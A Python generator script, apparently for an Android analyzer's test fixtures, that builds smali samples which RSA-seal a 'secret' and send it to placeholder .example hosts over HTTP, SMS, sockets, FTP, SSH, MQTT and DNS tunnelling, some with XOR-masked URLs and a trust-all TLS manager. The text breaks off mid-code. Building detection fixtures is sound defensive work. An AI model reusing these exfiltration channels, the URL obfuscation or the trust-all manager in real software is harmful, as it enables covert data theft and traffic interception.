#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Makes small dex files, one shape of code each, by assembling the smali below and in shapes/ with smali. The key was made for this file
alone (openssl genpkey, 1024 bits); its SubjectPublicKeyInfo has the SHA-256 93a416cca36cda1801eff3f88dc4c0f0f4991aa6d05de4dd35fad386cc453d09."""
import pathlib
import re
import subprocess
import tempfile

here = pathlib.Path(__file__).resolve().parent
KEY = "MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQDUN00pIJw1+cabbz9NMxsDsB/PXe+JXWd5YWrmBpMXk93CZtTj7PZrfOaIibt4OQg9uf+GAQuxTN4Eec9gFYHWg9Q2gu3QMDTqJaH1yvTVfmCLUIbhTg9RGEVIpi9aFLsUrFiFRuBDZzaC4WGlE20DFdYR7kwdKwNRKqO4G/dYKwIDAQAB"

SEAL = """
.method static seal([B)[B
    .registers 6
    const-string v0, "%(key)s"
    const/4 v1, 0x0
    invoke-static {v0, v1}, Landroid/util/Base64;->decode(Ljava/lang/String;I)[B
    move-result-object v0
    new-instance v1, Ljava/security/spec/X509EncodedKeySpec;
    invoke-direct {v1, v0}, Ljava/security/spec/X509EncodedKeySpec;-><init>([B)V
    const-string v0, "RSA"
    invoke-static {v0}, Ljava/security/KeyFactory;->getInstance(Ljava/lang/String;)Ljava/security/KeyFactory;
    move-result-object v0
    invoke-virtual {v0, v1}, Ljava/security/KeyFactory;->generatePublic(Ljava/security/spec/KeySpec;)Ljava/security/PublicKey;
    move-result-object v0
    const-string v1, "RSA/ECB/PKCS1Padding"
    invoke-static {v1}, Ljavax/crypto/Cipher;->getInstance(Ljava/lang/String;)Ljavax/crypto/Cipher;
    move-result-object v1
    const/4 v2, 0x1
    invoke-virtual {v1, v2, v0}, Ljavax/crypto/Cipher;->init(ILjava/security/Key;)V
    invoke-virtual {v1, p0}, Ljavax/crypto/Cipher;->doFinal([B)[B
    move-result-object v0
    return-object v0
.end method
""" % {"key": KEY}

POST = """
.method static post(Ljava/lang/String;[B)V
    .registers 4
    new-instance v0, Ljava/net/URL;
    invoke-direct {v0, p0}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v0}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    move-result-object v0
    invoke-virtual {v0}, Ljava/net/URLConnection;->getOutputStream()Ljava/io/OutputStream;
    move-result-object v0
    invoke-virtual {v0, p1}, Ljava/io/OutputStream;->write([B)V
    return-void
.end method
"""

# A text under a one-byte mask, opened by a loop.
XOR = """
.method static open([B)Ljava/lang/String;
    .registers 4
    const/4 v0, 0x0
    :again
    array-length v1, p0
    if-ge v0, v1, :done
    aget-byte v1, p0, v0
    xor-int/lit8 v1, v1, 0x5a
    int-to-byte v1, v1
    aput-byte v1, p0, v0
    add-int/lit8 v0, v0, 0x1
    goto :again
    :done
    new-instance v0, Ljava/lang/String;
    invoke-direct {v0, p0}, Ljava/lang/String;-><init>([B)V
    return-object v0
.end method
"""


def activity(body, registers=6, extra=""):
    return (".class public Lt/Main;\n.super Landroid/app/Activity;\n"
            ".method public constructor <init>()V\n    .registers 1\n    invoke-direct {p0}, Landroid/app/Activity;-><init>()V\n    return-void\n.end method\n"
            f".method protected onCreate(Landroid/os/Bundle;)V\n    .registers {registers}\n{body}\n    return-void\n.end method\n" + SEAL + POST + XOR + extra)


SEND = """    const-string v1, "secret"
    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
    move-result-object v1
    invoke-static {v1}, Lt/Main;->seal([B)[B
    move-result-object v1
    invoke-static {v0, v1}, Lt/Main;->post(Ljava/lang/String;[B)V
"""
masked = ", ".join(f"{(ord(c) ^ 0x5a):#x}t" for c in "http://hidden.example:8080/p")
TRUST = """.class public Lt/Trust;
.super Ljava/lang/Object;
.implements Ljavax/net/ssl/X509TrustManager;
.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    return-void
.end method
.method public checkServerTrusted([Ljava/security/cert/X509Certificate;Ljava/lang/String;)V
    .registers 6
%s
    return-void
.end method
.method public checkClientTrusted([Ljava/security/cert/X509Certificate;Ljava/lang/String;)V
    .registers 3
    return-void
.end method
.method public getAcceptedIssuers()[Ljava/security/cert/X509Certificate;
    .registers 2
    const/4 v0, 0x0
    return-object v0
.end method
"""
PIN = """    const/4 v0, 0x0
    aget-object v0, p1, v0
    invoke-virtual {v0}, Ljava/security/cert/X509Certificate;->getPublicKey()Ljava/security/PublicKey;
    move-result-object v0
    invoke-interface {v0}, Ljava/security/PublicKey;->getEncoded()[B
    move-result-object v0
    const-string v1, "SHA-256"
    invoke-static {v1}, Ljava/security/MessageDigest;->getInstance(Ljava/lang/String;)Ljava/security/MessageDigest;
    move-result-object v1
    invoke-virtual {v1, v0}, Ljava/security/MessageDigest;->digest([B)[B
    move-result-object v0
    const/4 v1, 0x2
    invoke-static {v0, v1}, Landroid/util/Base64;->encodeToString([BI)Ljava/lang/String;
    move-result-object v0
    const-string v1, "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8="
    invoke-virtual {v0, v1}, Ljava/lang/String;->equals(Ljava/lang/Object;)Z
    move-result v0
    if-nez v0, :good
    new-instance v0, Ljava/security/cert/CertificateException;
    invoke-direct {v0}, Ljava/security/cert/CertificateException;-><init>()V
    throw v0
    :good"""

def file_named(register, name):
    return (f"    new-instance {register}, Ljava/io/File;\n    invoke-virtual {{p0}}, Landroid/content/Context;->getFilesDir()Ljava/io/File;\n    move-result-object v3\n"
            f'    const-string v4, "{name}"\n    invoke-direct {{{register}, v3, v4}}, Ljava/io/File;-><init>(Ljava/io/File;Ljava/lang/String;)V\n')


# What is sealed goes into queue.bin; what is posted is read from a file of the given name.
def through_file(name):
    return ('    const-string v1, "secret"\n    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B\n    move-result-object v1\n'
            "    invoke-static {v1}, Lt/Main;->seal([B)[B\n    move-result-object v1\n" + file_named("v0", "queue.bin")
            + "    new-instance v2, Ljava/io/FileOutputStream;\n    invoke-direct {v2, v0}, Ljava/io/FileOutputStream;-><init>(Ljava/io/File;)V\n"
            "    invoke-virtual {v2, v1}, Ljava/io/FileOutputStream;->write([B)V\n" + file_named("v0", name)
            + "    new-instance v2, Ljava/io/FileInputStream;\n    invoke-direct {v2, v0}, Ljava/io/FileInputStream;-><init>(Ljava/io/File;)V\n"
            "    const/16 v1, 0x100\n    new-array v1, v1, [B\n    invoke-virtual {v2, v1}, Ljava/io/FileInputStream;->read([B)I\n"
            '    const-string v0, "https://queue.example/"\n    invoke-static {v0, v1}, Lt/Main;->post(Ljava/lang/String;[B)V\n')


# What is sealed is written out digit by digit; the loop's end stands at its head, or its body behind the return as dx lays it.
HEX_HEAD = """    :again
    array-length v2, v1
    if-ge v3, v2, :done
    aget-byte v2, v1, v3
    invoke-static {v2}, Ljava/lang/Integer;->toHexString(I)Ljava/lang/String;
    move-result-object v2
    invoke-virtual {v4, v2}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    add-int/lit8 v3, v3, 0x1
    goto :again
    :done
%s"""
HEX_BEHIND = """    :again
    array-length v2, v1
    if-lt v3, v2, :body
%s    return-void
    :body
    aget-byte v2, v1, v3
    invoke-static {v2}, Ljava/lang/Integer;->toHexString(I)Ljava/lang/String;
    move-result-object v2
    invoke-virtual {v4, v2}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    add-int/lit8 v3, v3, 0x1
    goto :again
"""


def through_loop(shape):
    return ('    const-string v1, "secret"\n    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B\n    move-result-object v1\n'
            "    invoke-static {v1}, Lt/Main;->seal([B)[B\n    move-result-object v1\n    const/4 v3, 0x0\n"
            "    new-instance v4, Ljava/lang/StringBuilder;\n    invoke-direct {v4}, Ljava/lang/StringBuilder;-><init>()V\n"
            + shape % ("    invoke-virtual {v4}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;\n    move-result-object v4\n"
                       "    invoke-virtual {v4}, Ljava/lang/String;->getBytes()[B\n    move-result-object v4\n"
                       '    const-string v0, "https://digits.example/"\n    invoke-static {v0, v4}, Lt/Main;->post(Ljava/lang/String;[B)V\n'))


# The platform has this class, and its loader asks the platform first: this one never runs.
DECOY = """.class public Landroid/util/Base64;
.super Ljava/lang/Object;
.method public static decode(Ljava/lang/String;I)[B
    .registers 3
    const/16 v0, 0x20
    new-array v0, v0, [B
    return-object v0
.end method
"""

shapes = {
    "loop_head": [activity(through_loop(HEX_HEAD), 8)],
    "loop_behind": [activity(through_loop(HEX_BEHIND), 8)],
    "decoy_class": [activity('    const-string v0, "http://plain.example:8080/in"\n' + SEND), DECOY],
    "text_message": [activity('    const-string v1, "secret"\n    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B\n    move-result-object v1\n'
                              "    invoke-static {v1}, Lt/Main;->seal([B)[B\n    move-result-object v1\n    const/4 v2, 0x0\n"
                              "    invoke-static {v1, v2}, Landroid/util/Base64;->encodeToString([BI)Ljava/lang/String;\n    move-result-object v3\n"
                              "    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;\n    move-result-object v0\n"
                              '    const-string v1, "+4930123456"\n    const/4 v4, 0x0\n    const/4 v5, 0x0\n'
                              "    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V\n", 8)],
    "same_file": [activity(through_file("queue.bin"), 8)],
    "other_file": [activity(through_file("report.bin"), 8)],
    "constant": [activity('    const-string v0, "http://plain.example:8080/in"\n' + SEND)],
    "xor_decoder": [activity(f"    const/16 v0, {len('http://hidden.example:8080/p')}\n    new-array v0, v0, [B\n    fill-array-data v0, :data\n"
                             "    invoke-static {v0}, Lt/Main;->open([B)Ljava/lang/String;\n    move-result-object v0\n" + SEND
                             + "    return-void\n    nop\n    :data\n    .array-data 1\n        " + masked.replace(", ", "\n        ") + "\n    .end array-data\n")],
    "not_tied": [activity('    const-string v0, "https://news.example/feed"\n    const/4 v1, 0x0\n    invoke-static {v0, v1}, Lt/Main;->post(Ljava/lang/String;[B)V\n'
                          '    const-string v1, "secret"\n    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B\n    move-result-object v1\n    invoke-static {v1}, Lt/Main;->seal([B)[B\n')],
    "unknown_branch": [activity('    const-string v0, "https://one.example/"\n    if-nez p1, :join\n    const-string v0, "https://two.example/"\n    :join\n' + SEND)],
    "from_the_clock": [activity('    new-instance v0, Ljava/lang/StringBuilder;\n    const-string v1, "https://d"\n    invoke-direct {v0, v1}, Ljava/lang/StringBuilder;-><init>(Ljava/lang/String;)V\n'
                                "    invoke-static {}, Ljava/lang/System;->currentTimeMillis()J\n    move-result-wide v1\n"
                                "    invoke-virtual {v0, v1, v2}, Ljava/lang/StringBuilder;->append(J)Ljava/lang/StringBuilder;\n"
                                '    const-string v1, ".example/"\n    invoke-virtual {v0, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;\n'
                                "    invoke-virtual {v0}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;\n    move-result-object v0\n" + SEND, 8)],
    "endless_loop": [activity('    :again\n    const-string v0, "https://after.example/"\n    goto :again\n', 6,
                              "\n.method public onResume()V\n    .registers 6\n    const-string v0, \"https://later.example/\"\n" + SEND + "    return-void\n.end method\n")],
    "endless_recursion": [activity("    invoke-virtual {p0, p1}, Lt/Main;->onCreate(Landroid/os/Bundle;)V\n" + '    const-string v0, "https://deep.example/"\n' + SEND)],
    # Two powers: one by a number that no RSA key has (Montgomery's constant), one by 65537.
    "powers": [activity("    sget-object v0, Ljava/math/BigInteger;->ZERO:Ljava/math/BigInteger;\n    const/16 v1, 0x800\n"
                        "    invoke-virtual {v0, v1}, Ljava/math/BigInteger;->setBit(I)Ljava/math/BigInteger;\n    move-result-object v0\n"
                        + "".join(f"    const-wide/32 v2, {exponent}\n    invoke-static {{v2, v3}}, Ljava/math/BigInteger;->valueOf(J)Ljava/math/BigInteger;\n    move-result-object v2\n"
                                  "    invoke-virtual {v0, v2, v0}, Ljava/math/BigInteger;->modPow(Ljava/math/BigInteger;Ljava/math/BigInteger;)Ljava/math/BigInteger;\n" for exponent in (2, 65537)), 8)],
    # Library code that nothing calls, with work without end: the app's own code comes first.
    "library_work": [activity("    nop\n", 6, '\n.method public work()V\n    .registers 6\n    const/16 v0, 0x4e20\n    :count\n    add-int/lit8 v0, v0, -0x1\n    if-nez v0, :count\n    const-string v0, "https://own.example/"\n' + SEND + "    return-void\n.end method\n"),
                     ".class public Lorg/jsoup/Work;\n.super Ljava/lang/Object;\n"
                     + "".join(f"""
.method public static work{number}()V
    .registers 3
    const/4 v0, 0x0
    :again
    add-int/lit8 v0, v0, 0x1
    if-gez v0, :again
    new-instance v1, Ljava/net/URL;
    const-string v2, "https://library.example/"
    invoke-direct {{v1, v2}}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {{v1}}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    return-void
.end method
""" for number in range(40))],
    "trust_all": [TRUST % ""],
    "pin": [TRUST % PIN],
}

# How an address may be put together: each leaves "https://ok.example/x" in v0.
VALUES = {
    'regexmatch': """    const-string v1, "x=<https://ok.example/x>"
    const-string v2, "<([^>]+)>"
    invoke-static {v2}, Ljava/util/regex/Pattern;->compile(Ljava/lang/String;)Ljava/util/regex/Pattern;
    move-result-object v2
    invoke-virtual {v2, v1}, Ljava/util/regex/Pattern;->matcher(Ljava/lang/CharSequence;)Ljava/util/regex/Matcher;
    move-result-object v1
    invoke-virtual {v1}, Ljava/util/regex/Matcher;->find()Z
    const/4 v2, 0x1
    invoke-virtual {v1, v2}, Ljava/util/regex/Matcher;->group(I)Ljava/lang/String;
    move-result-object v0
""",
    'replaceall': """    const-string v1, "https://o#k.ex#ample/x"
    const-string v2, "#+"
    const-string v3, ""
    invoke-virtual {v1, v2, v3}, Ljava/lang/String;->replaceAll(Ljava/lang/String;Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
""",
    'tokenizer': """    new-instance v1, Ljava/util/StringTokenizer;
    const-string v2, "a|https://ok.example/x|b"
    const-string v3, "|"
    invoke-direct {v1, v2, v3}, Ljava/util/StringTokenizer;-><init>(Ljava/lang/String;Ljava/lang/String;)V
    invoke-virtual {v1}, Ljava/util/StringTokenizer;->nextToken()Ljava/lang/String;
    move-result-object v0
    invoke-virtual {v1}, Ljava/util/StringTokenizer;->nextToken()Ljava/lang/String;
    move-result-object v0
""",
    'optional': """    const-string v1, "https://ok.example/x"
    invoke-static {v1}, Ljava/util/Optional;->of(Ljava/lang/Object;)Ljava/util/Optional;
    move-result-object v1
    invoke-virtual {v1}, Ljava/util/Optional;->get()Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Ljava/lang/String;
""",
    'pair': """    new-instance v1, Landroid/util/Pair;
    const-string v2, "a"
    const-string v3, "https://ok.example/x"
    invoke-direct {v1, v2, v3}, Landroid/util/Pair;-><init>(Ljava/lang/Object;Ljava/lang/Object;)V
    iget-object v0, v1, Landroid/util/Pair;->second:Ljava/lang/Object;
    check-cast v0, Ljava/lang/String;
""",
    'entry': """    new-instance v1, Ljava/util/LinkedHashMap;
    invoke-direct {v1}, Ljava/util/LinkedHashMap;-><init>()V
    const-string v2, "k"
    const-string v3, "https://ok.example/x"
    invoke-virtual {v1, v2, v3}, Ljava/util/LinkedHashMap;->put(Ljava/lang/Object;Ljava/lang/Object;)Ljava/lang/Object;
    invoke-virtual {v1}, Ljava/util/LinkedHashMap;->entrySet()Ljava/util/Set;
    move-result-object v1
    invoke-interface {v1}, Ljava/util/Set;->iterator()Ljava/util/Iterator;
    move-result-object v1
    invoke-interface {v1}, Ljava/util/Iterator;->next()Ljava/lang/Object;
    move-result-object v1
    check-cast v1, Ljava/util/Map$Entry;
    invoke-interface {v1}, Ljava/util/Map$Entry;->getValue()Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Ljava/lang/String;
""",
    'arraysaslist': """    const/4 v3, 0x2
    new-array v3, v3, [Ljava/lang/Object;
    const/4 v4, 0x0
    const-string v2, "zz"
    aput-object v2, v3, v4
    const/4 v4, 0x1
    const-string v2, "https://ok.example/x"
    aput-object v2, v3, v4
    invoke-static {v3}, Ljava/util/Arrays;->asList([Ljava/lang/Object;)Ljava/util/List;
    move-result-object v1
    invoke-static {v1}, Ljava/util/Collections;->reverse(Ljava/util/List;)V
    const/4 v4, 0x0
    invoke-interface {v1, v4}, Ljava/util/List;->get(I)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Ljava/lang/String;
""",
    'atomicref': """    new-instance v1, Ljava/util/concurrent/atomic/AtomicReference;
    const-string v2, "https://ok.example/x"
    invoke-direct {v1, v2}, Ljava/util/concurrent/atomic/AtomicReference;-><init>(Ljava/lang/Object;)V
    invoke-virtual {v1}, Ljava/util/concurrent/atomic/AtomicReference;->get()Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Ljava/lang/String;
""",
    'threadlocal': """    new-instance v1, Ljava/lang/ThreadLocal;
    invoke-direct {v1}, Ljava/lang/ThreadLocal;-><init>()V
    const-string v3, "https://ok.example/x"
    invoke-virtual {v1, v3}, Ljava/lang/ThreadLocal;->set(Ljava/lang/Object;)V
    invoke-virtual {v1}, Ljava/lang/ThreadLocal;->get()Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Ljava/lang/String;
""",
    'weakref': """    new-instance v1, Ljava/lang/ref/WeakReference;
    const-string v3, "https://ok.example/x"
    invoke-direct {v1, v3}, Ljava/lang/ref/WeakReference;-><init>(Ljava/lang/Object;)V
    invoke-virtual {v1}, Ljava/lang/ref/WeakReference;->get()Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Ljava/lang/String;
""",
    'bytebuffer': """    const-string v1, "https://ok.example/x"
    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
    move-result-object v1
    invoke-static {v1}, Ljava/nio/ByteBuffer;->wrap([B)Ljava/nio/ByteBuffer;
    move-result-object v1
    invoke-virtual {v1}, Ljava/nio/ByteBuffer;->array()[B
    move-result-object v2
    new-instance v0, Ljava/lang/String;
    invoke-direct {v0, v2}, Ljava/lang/String;-><init>([B)V
""",
    'messageformat': """    const-string v1, "https://{0}.example/{1}"
    const/4 v3, 0x2
    new-array v3, v3, [Ljava/lang/Object;
    const/4 v4, 0x0
    const-string v2, "ok"
    aput-object v2, v3, v4
    const/4 v4, 0x1
    const-string v2, "x"
    aput-object v2, v3, v4
    invoke-static {v1, v3}, Ljava/text/MessageFormat;->format(Ljava/lang/String;[Ljava/lang/Object;)Ljava/lang/String;
    move-result-object v0
""",
    'urldecode': """    const-string v1, "https%3A%2F%2Fok.example%2Fx"
    const-string v2, "UTF-8"
    invoke-static {v1, v2}, Ljava/net/URLDecoder;->decode(Ljava/lang/String;Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
""",
    'kotlinintr': """    const-string v1, "https://"
    const-string v2, "ok.example/x"
    invoke-static {v1, v2}, Lkotlin/jvm/internal/Intrinsics;->stringPlus(Ljava/lang/String;Ljava/lang/Object;)Ljava/lang/String;
    move-result-object v0
""",
    'join': """    const-string v1, "https://ok"
    const-string v2, "example/x"
    const/4 v3, 0x2
    new-array v3, v3, [Ljava/lang/CharSequence;
    const/4 v4, 0x0
    aput-object v1, v3, v4
    const/4 v4, 0x1
    aput-object v2, v3, v4
    const-string v1, "."
    invoke-static {v1, v3}, Ljava/lang/String;->join(Ljava/lang/CharSequence;[Ljava/lang/CharSequence;)Ljava/lang/String;
    move-result-object v0
""",
    'uribuilder': """    new-instance v1, Landroid/net/Uri$Builder;
    invoke-direct {v1}, Landroid/net/Uri$Builder;-><init>()V
    const-string v2, "https"
    invoke-virtual {v1, v2}, Landroid/net/Uri$Builder;->scheme(Ljava/lang/String;)Landroid/net/Uri$Builder;
    move-result-object v1
    const-string v2, "ok.example"
    invoke-virtual {v1, v2}, Landroid/net/Uri$Builder;->authority(Ljava/lang/String;)Landroid/net/Uri$Builder;
    move-result-object v1
    const-string v2, "x"
    invoke-virtual {v1, v2}, Landroid/net/Uri$Builder;->appendPath(Ljava/lang/String;)Landroid/net/Uri$Builder;
    move-result-object v1
    invoke-virtual {v1}, Landroid/net/Uri$Builder;->build()Landroid/net/Uri;
    move-result-object v1
    invoke-virtual {v1}, Landroid/net/Uri;->toString()Ljava/lang/String;
    move-result-object v0
""",
    'hexparse': """    const-string v1, "68747470733a2f2f6f6b2e6578616d706c652f78"
    new-instance v2, Ljava/lang/StringBuilder;
    invoke-direct {v2}, Ljava/lang/StringBuilder;-><init>()V
    const/4 v3, 0x0
    :l
    invoke-virtual {v1}, Ljava/lang/String;->length()I
    move-result v4
    if-ge v3, v4, :d
    add-int/lit8 v4, v3, 0x2
    invoke-virtual {v1, v3, v4}, Ljava/lang/String;->substring(II)Ljava/lang/String;
    move-result-object v5
    const/16 v6, 0x10
    invoke-static {v5, v6}, Ljava/lang/Integer;->parseInt(Ljava/lang/String;I)I
    move-result v5
    int-to-char v5, v5
    invoke-virtual {v2, v5}, Ljava/lang/StringBuilder;->append(C)Ljava/lang/StringBuilder;
    move v3, v4
    goto :l
    :d
    invoke-virtual {v2}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v0
""",
    'jsonobj': """    new-instance v1, Lorg/json/JSONObject;
    const-string v2, "{\\"a\\":{\\"u\\":\\"https://ok.example/x\\"}}"
    invoke-direct {v1, v2}, Lorg/json/JSONObject;-><init>(Ljava/lang/String;)V
    const-string v2, "a"
    invoke-virtual {v1, v2}, Lorg/json/JSONObject;->getJSONObject(Ljava/lang/String;)Lorg/json/JSONObject;
    move-result-object v1
    const-string v2, "u"
    invoke-virtual {v1, v2}, Lorg/json/JSONObject;->optString(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
""",
}
# Ways out of an app: each seals a text and hands it to ok.example.
SINKS = {
    'datagram': """    const-string v1, "secret"
    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
    move-result-object v1
    invoke-static {v1}, Lt/Main;->seal([B)[B
    move-result-object v1
    const-string v2, "ok.example"
    invoke-static {v2}, Ljava/net/InetAddress;->getByName(Ljava/lang/String;)Ljava/net/InetAddress;
    move-result-object v2
    const/16 v3, 0x1f90
    array-length v4, v1
    new-instance v5, Ljava/net/DatagramPacket;
    invoke-direct {v5, v1, v4, v2, v3}, Ljava/net/DatagramPacket;-><init>([BILjava/net/InetAddress;I)V
    new-instance v6, Ljava/net/DatagramSocket;
    invoke-direct {v6}, Ljava/net/DatagramSocket;-><init>()V
    invoke-virtual {v6, v5}, Ljava/net/DatagramSocket;->send(Ljava/net/DatagramPacket;)V
""",
    'datagramchannel': """    const-string v1, "secret"
    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
    move-result-object v1
    invoke-static {v1}, Lt/Main;->seal([B)[B
    move-result-object v1
    new-instance v4, Ljava/net/InetSocketAddress;
    const-string v2, "ok.example"
    const/16 v3, 0x1f90
    invoke-direct {v4, v2, v3}, Ljava/net/InetSocketAddress;-><init>(Ljava/lang/String;I)V
    invoke-static {}, Ljava/nio/channels/DatagramChannel;->open()Ljava/nio/channels/DatagramChannel;
    move-result-object v5
    invoke-static {v1}, Ljava/nio/ByteBuffer;->wrap([B)Ljava/nio/ByteBuffer;
    move-result-object v6
    invoke-virtual {v5, v6, v4}, Ljava/nio/channels/DatagramChannel;->send(Ljava/nio/ByteBuffer;Ljava/net/SocketAddress;)I
""",
    'socketchannel': """    const-string v1, "secret"
    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
    move-result-object v1
    invoke-static {v1}, Lt/Main;->seal([B)[B
    move-result-object v1
    new-instance v4, Ljava/net/InetSocketAddress;
    const-string v2, "ok.example"
    const/16 v3, 0x1f90
    invoke-direct {v4, v2, v3}, Ljava/net/InetSocketAddress;-><init>(Ljava/lang/String;I)V
    invoke-static {v4}, Ljava/nio/channels/SocketChannel;->open(Ljava/net/SocketAddress;)Ljava/nio/channels/SocketChannel;
    move-result-object v5
    invoke-static {v1}, Ljava/nio/ByteBuffer;->wrap([B)Ljava/nio/ByteBuffer;
    move-result-object v6
    invoke-virtual {v5, v6}, Ljava/nio/channels/SocketChannel;->write(Ljava/nio/ByteBuffer;)I
""",
    'asyncchannel': """    const-string v1, "secret"
    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
    move-result-object v1
    invoke-static {v1}, Lt/Main;->seal([B)[B
    move-result-object v1
    new-instance v4, Ljava/net/InetSocketAddress;
    const-string v2, "ok.example"
    const/16 v3, 0x1f90
    invoke-direct {v4, v2, v3}, Ljava/net/InetSocketAddress;-><init>(Ljava/lang/String;I)V
    invoke-static {}, Ljava/nio/channels/AsynchronousSocketChannel;->open()Ljava/nio/channels/AsynchronousSocketChannel;
    move-result-object v5
    invoke-virtual {v5, v4}, Ljava/nio/channels/AsynchronousSocketChannel;->connect(Ljava/net/SocketAddress;)Ljava/util/concurrent/Future;
    move-result-object v7
    invoke-interface {v7}, Ljava/util/concurrent/Future;->get()Ljava/lang/Object;
    invoke-static {v1}, Ljava/nio/ByteBuffer;->wrap([B)Ljava/nio/ByteBuffer;
    move-result-object v6
    invoke-virtual {v5, v6}, Ljava/nio/channels/AsynchronousSocketChannel;->write(Ljava/nio/ByteBuffer;)Ljava/util/concurrent/Future;
""",
    'ftp': """    const-string v1, "secret"
    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
    move-result-object v1
    invoke-static {v1}, Lt/Main;->seal([B)[B
    move-result-object v1
    new-instance v4, Lorg/apache/commons/net/ftp/FTPClient;
    invoke-direct {v4}, Lorg/apache/commons/net/ftp/FTPClient;-><init>()V
    const-string v2, "ok.example"
    const/16 v3, 0x1f90
    invoke-virtual {v4, v2, v3}, Lorg/apache/commons/net/ftp/FTPClient;->connect(Ljava/lang/String;I)V
    new-instance v5, Ljava/io/ByteArrayInputStream;
    invoke-direct {v5, v1}, Ljava/io/ByteArrayInputStream;-><init>([B)V
    const-string v2, "x"
    invoke-virtual {v4, v2, v5}, Lorg/apache/commons/net/ftp/FTPClient;->storeFile(Ljava/lang/String;Ljava/io/InputStream;)Z
""",
    'jsch': """    const-string v1, "secret"
    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
    move-result-object v1
    invoke-static {v1}, Lt/Main;->seal([B)[B
    move-result-object v1
    new-instance v4, Lcom/jcraft/jsch/JSch;
    invoke-direct {v4}, Lcom/jcraft/jsch/JSch;-><init>()V
    const-string v2, "root"
    const-string v5, "ok.example"
    const/16 v3, 0x1f90
    invoke-virtual {v4, v2, v5, v3}, Lcom/jcraft/jsch/JSch;->getSession(Ljava/lang/String;Ljava/lang/String;I)Lcom/jcraft/jsch/Session;
    move-result-object v6
    invoke-virtual {v6, v1}, Lcom/jcraft/jsch/Session;->setPassword([B)V
""",
    'dnstunnel': """    const-string v1, "secret"
    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
    move-result-object v1
    invoke-static {v1}, Lt/Main;->seal([B)[B
    move-result-object v1
    new-instance v4, Ljava/math/BigInteger;
    const/4 v3, 0x1
    invoke-direct {v4, v3, v1}, Ljava/math/BigInteger;-><init>(I[B)V
    const/16 v3, 0x10
    invoke-virtual {v4, v3}, Ljava/math/BigInteger;->toString(I)Ljava/lang/String;
    move-result-object v1
    new-instance v5, Ljava/lang/StringBuilder;
    invoke-direct {v5}, Ljava/lang/StringBuilder;-><init>()V
    invoke-virtual {v5, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    const-string v2, ".ok.example"
    invoke-virtual {v5, v2}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v5}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v2
    invoke-static {v2}, Ljava/net/InetAddress;->getByName(Ljava/lang/String;)Ljava/net/InetAddress;
""",
    'paho': """    const-string v1, "secret"
    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
    move-result-object v1
    invoke-static {v1}, Lt/Main;->seal([B)[B
    move-result-object v1
    new-instance v4, Lorg/eclipse/paho/client/mqttv3/MqttClient;
    const-string v2, "tcp://ok.example:8080"
    const-string v3, "id"
    invoke-direct {v4, v2, v3}, Lorg/eclipse/paho/client/mqttv3/MqttClient;-><init>(Ljava/lang/String;Ljava/lang/String;)V
    invoke-virtual {v4}, Lorg/eclipse/paho/client/mqttv3/MqttClient;->connect()V
    new-instance v5, Lorg/eclipse/paho/client/mqttv3/MqttMessage;
    invoke-direct {v5, v1}, Lorg/eclipse/paho/client/mqttv3/MqttMessage;-><init>([B)V
    const-string v2, "t"
    invoke-virtual {v4, v2, v5}, Lorg/eclipse/paho/client/mqttv3/MqttClient;->publish(Ljava/lang/String;Lorg/eclipse/paho/client/mqttv3/MqttMessage;)V
""",
    'printwriter': """    const-string v1, "secret"
    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
    move-result-object v1
    invoke-static {v1}, Lt/Main;->seal([B)[B
    move-result-object v1
    const/4 v3, 0x2
    invoke-static {v1, v3}, Landroid/util/Base64;->encodeToString([BI)Ljava/lang/String;
    move-result-object v1
    new-instance v5, Ljava/net/Socket;
    const-string v2, "ok.example"
    const/16 v3, 0x1f90
    invoke-direct {v5, v2, v3}, Ljava/net/Socket;-><init>(Ljava/lang/String;I)V
    new-instance v6, Ljava/io/PrintWriter;
